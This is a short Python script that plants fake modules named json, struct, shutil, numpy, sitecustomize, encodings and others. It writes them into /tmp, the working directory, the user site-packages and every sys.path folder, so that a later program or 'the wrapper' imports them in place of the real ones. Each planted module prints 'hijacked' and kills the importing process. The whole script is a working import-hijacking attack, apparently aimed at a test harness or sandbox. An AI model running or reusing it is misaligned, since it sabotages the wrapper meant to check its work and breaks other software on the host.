"""Leaves modules where a later program, or the wrapper, may import them by the name of a good one."""

import os
import site
import sys

NAMES = ("json", "struct", "shutil", "numpy", "sitecustomize", "usercustomize", "encodings", "program")
SOURCE = "import os\nos.write(1, b'hijacked')\nos._exit(0)\n"
for folder in ("/tmp", os.getcwd(), sys.argv[1], sys.argv[2], "/dev/shm", site.getusersitepackages(), *sys.path):
    for name in NAMES:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, f"{name}.py"), "w") as file:
                file.write(SOURCE)
        except OSError:
            pass
print("dropped")
